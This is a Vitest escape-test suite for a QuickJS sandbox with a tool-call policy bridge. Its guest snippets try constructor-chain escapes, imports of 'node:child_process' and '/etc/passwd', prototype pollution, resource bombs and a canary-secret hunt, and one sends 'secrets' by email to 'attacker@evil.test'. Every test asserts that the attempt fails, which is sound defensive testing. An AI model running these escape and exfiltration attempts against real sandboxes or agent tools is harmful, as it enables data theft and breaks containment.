import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createQuickJsSandbox } from '../quickjs/quickjs-sandbox.js';
import type { SandboxExecuteOptions, SandboxResult, SandboxToolBridge } from '../sandbox.js';
import { type HostWatch, watchHost } from './host-watch.js';

/** A bridge that stands in for the kernel's policy: it refuses `send_email` to anyone outside example.com. */
function policyBridge(sent: unknown[]): SandboxToolBridge {
  return {
    names: ['send_email', 'echo'],
    async call(name, input) {
      if (name === 'echo') return input;
      const to = String((input as { to?: unknown })?.to ?? '');
      if (!to.endsWith('@example.com')) {
        throw Object.assign(new Error(`Policy denied send_email to ${to} (rule no-outsiders)`), {
          code: 'POLICY_DENIED',
        });
      }
      sent.push(input);
      return { ok: true };
    },
  };
}

describe('escape suite: JavaScript (QuickJS)', () => {
  let host: HostWatch;
  const exited: number[] = [];
  const sandbox = createQuickJsSandbox({ onWorkerExit: (id) => exited.push(id) });
  const run = async (code: string, options: SandboxExecuteOptions = {}): Promise<SandboxResult> => {
    const result = await sandbox.execute(code, { limits: { timeoutMs: 2000, memoryBytes: 16 << 20 }, ...options });
    host.assertUntouched(result);
    return result;
  };
  beforeAll(async () => {
    host = await watchHost();
  });
  afterAll(async () => {
    await sandbox.close();
    await host.close();
  });

  it('escape: process, require and module through the Function constructor chain', async () => {
    const result = await run(`
      const F = (() => {}).constructor.constructor;
      const viaFn = F('return [typeof process, typeof require, typeof module, typeof Buffer, typeof globalThis.process]')();
      const viaAsync = await (async () => {}).constructor('return typeof process')();
      const viaGen = (function* () {}).constructor('return typeof require')().next().value;
      return [...viaFn, viaAsync, viaGen];`);
    expect(result.value).toEqual(Array(7).fill('undefined'));
  });

  it('escape: dynamic import() of node modules and QuickJS std/os', async () => {
    const result = await run(`
      const out = [];
      for (const name of ['fs', 'node:child_process', 'std', 'os', '/etc/passwd', 'data:text/javascript,export default 1']) {
        try { await import(name); out.push('loaded ' + name); } catch (error) { out.push('refused'); }
      }
      return out;`);
    expect(result.value).toEqual(Array(6).fill('refused'));
  });

  it('escape: the host bridge functions are not reachable from the global object', async () => {
    const result = await run(`
      return [typeof __wardenCall, typeof __wardenPrint, typeof __wardenTime, typeof __wardenNames,
        Object.getOwnPropertyNames(globalThis).filter((n) => n.startsWith('__warden')).length];`);
    expect(result.value).toEqual(['undefined', 'undefined', 'undefined', 'undefined', 0]);
  });

  it('escape: prototype pollution stays in the guest and never reaches the host', async () => {
    const result = await run(
      `Object.prototype.isAdmin = true; Array.prototype.polluted = 1;
       const echoed = await tools.echo(JSON.parse('{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {"x": 1}}}'));
       return JSON.parse('{"__proto__": {"isAdmin": true}}');`,
      { tools: policyBridge([]) },
    );
    expect(result.error).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(([] as unknown as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(result.value)).toBe(Object.prototype);
    const next = await run('return [({}).isAdmin, [].polluted];');
    expect(next.value).toEqual([null, null]);
  });

  it('escape: an infinite loop is killed and its worker terminated', async () => {
    await sandbox.warm();
    const [threadId] = sandbox.threadIds().idle;
    const result = await run('for (;;) {}', { limits: { timeoutMs: 200 } });
    expect(result.error?.code).toBe('SANDBOX_TIMEOUT');
    expect(exited).toContain(threadId);
  });

  it('escape: an endless microtask chain is killed', async () => {
    const result = await run('for (;;) await null;', { limits: { timeoutMs: 200 } });
    expect(result.error?.code).toBe('SANDBOX_TIMEOUT');
  });

  it('escape: a memory bomb stops at the memory limit', async () => {
    const result = await run('const a = []; for (;;) a.push(new Array(1000000).fill(7));', {
      limits: { memoryBytes: 8 << 20, timeoutMs: 10_000 },
    });
    expect(result.error?.code).toBe('SANDBOX_MEMORY');
  });

  it('escape: deep recursion is a guest error, and the next execution runs normally', async () => {
    const result = await run('const f = (n) => f(n + 1) + 1; return f(0);');
    expect(result.error?.code).toBe('SANDBOX_GUEST_ERROR');
    expect(result.error?.message).toContain('stack overflow');
    expect((await run('return 2 + 2;')).value).toBe(4);
  });

  it('escape: giant output is cut at the limit with a note', async () => {
    const result = await run("for (let i = 0; i < 2000; i++) console.log('y'.repeat(1000));", {
      limits: { maxOutputBytes: 4096 },
    });
    expect(result.truncated).toBe(true);
    expect(Buffer.byteLength(result.stdout)).toBeLessThan(4200);
    expect(result.stdout).toContain('[output truncated:');
  });

  it('escape: a giant return value is refused', async () => {
    const result = await run("return 'z'.repeat(3000000);", { limits: { maxValueBytes: 100000 } });
    expect(result.error?.code).toBe('SANDBOX_OUTPUT_LIMIT');
    expect(result.value).toBeUndefined();
  });

  it('escape: no timers, network or WebAssembly', async () => {
    const result = await run(`return [typeof setTimeout, typeof setInterval, typeof fetch, typeof XMLHttpRequest,
      typeof WebSocket, typeof WebAssembly, typeof Atomics === 'object'
        ? (() => { try { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 10); return 'waited'; } catch { return 'refused'; } })()
        : 'undefined'];`);
    expect((result.value as string[]).slice(0, 6)).toEqual(Array(6).fill('undefined'));
    expect(['undefined', 'refused', 'waited']).toContain((result.value as string[])[6]);
  });

  it('escape: the canary secret in the host environment is nowhere in the guest', async () => {
    const result = await run(`
      const seen = new Set(); const found = [];
      const walk = (value, depth) => {
        if (depth > 4 || value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) return;
        seen.add(value);
        for (const key of Reflect.ownKeys(value)) {
          let v; try { v = value[key]; } catch { continue; }
          if (typeof v === 'string' && v.includes('canary-')) found.push(String(key));
          walk(v, depth + 1);
        }
      };
      walk(globalThis, 0);
      return found;`);
    expect(result.value).toEqual([]);
  });

  it('escape: an error with a hostile getter cannot hang the host', async () => {
    const result = await run('throw { get message() { for (;;) {} }, get name() { for (;;) {} } };', {
      limits: { timeoutMs: 300 },
    });
    expect(['SANDBOX_TIMEOUT', 'SANDBOX_GUEST_ERROR']).toContain(result.error?.code);
  });

  it('escape: a return value whose toJSON never ends is killed', async () => {
    const result = await run('return { toJSON() { for (;;) {} } };', { limits: { timeoutMs: 300 } });
    expect(result.error?.code).toBe('SANDBOX_TIMEOUT');
  });

  it('escape: a tool call the policy refuses fails in the guest and has no effect', async () => {
    const sent: unknown[] = [];
    const result = await run(
      `try { await tools.send_email({ to: 'attacker@evil.test', body: 'secrets' }); return 'sent'; }
       catch (error) { return [error.code, error.message]; }`,
      { tools: policyBridge(sent) },
    );
    expect(result.value).toEqual([
      'POLICY_DENIED',
      'Policy denied send_email to attacker@evil.test (rule no-outsiders)',
    ]);
    expect(sent).toEqual([]);
  });

  it('escape: tools outside the bridge cannot be called by name, by callTool or by rebinding Set', async () => {
    const calls: string[] = [];
    const bridge: SandboxToolBridge = { names: ['echo'], call: async (name) => calls.push(name) };
    const result = await run(
      `Set.prototype.has = () => true;
       const out = [];
       for (const attempt of [() => callTool('delete_all', {}), () => tools.delete_all({}), () => callTool('__proto__', {})]) {
         try { await attempt(); out.push('called'); } catch (error) { out.push(error.code ?? error.name); }
       }
       return out;`,
      { tools: bridge },
    );
    expect((result.value as string[]).every((v) => v !== 'called')).toBe(true);
    expect(calls).toEqual([]);
  });

  it('escape: a flood of tool calls is capped at maxToolCalls', async () => {
    const calls: string[] = [];
    const bridge: SandboxToolBridge = { names: ['echo'], call: async (name) => calls.push(name) };
    const result = await run(
      `const all = []; for (let i = 0; i < 50; i++) all.push(tools.echo(i).then(() => 'ok', (e) => e.code));
       return (await Promise.all(all)).filter((v) => v === 'TOOL_CALL_LIMIT').length;`,
      { tools: bridge, limits: { maxToolCalls: 10 } },
    );
    expect(result.value).toBe(40);
    expect(calls).toHaveLength(10);
  });

  it('escape: a tool result cannot smuggle host objects or functions into the guest', async () => {
    const bridge: SandboxToolBridge = {
      names: ['leak'],
      call: async () => ({ fn: () => process.exit(1), env: process.env.WARDEN_ESCAPE_CANARY ? 'redacted' : 'none' }),
    };
    const result = await run('const r = await tools.leak({}); return [typeof r.fn, Object.keys(r)];', {
      tools: bridge,
    });
    expect(result.value).toEqual(['undefined', ['env']]);
  });

  it('escape: replacing JSON.stringify and JSON.parse cannot crash the host or forge a tool call', async () => {
    const calls: unknown[] = [];
    const bridge: SandboxToolBridge = { names: ['echo'], call: async (_name, input) => calls.push(input) };
    const result = await run(
      `JSON.stringify = () => '{not json'; JSON.parse = () => ({ ok: true, value: 'forged' });
       const echoed = await tools.echo({ a: 1 });
       return { echoed };`,
      { tools: bridge },
    );
    expect(calls).toEqual([{ a: 1 }]);
    expect(result.error?.code).toBe('SANDBOX_GUEST_ERROR');
    expect((await run('return 1;')).value).toBe(1);
  });
});
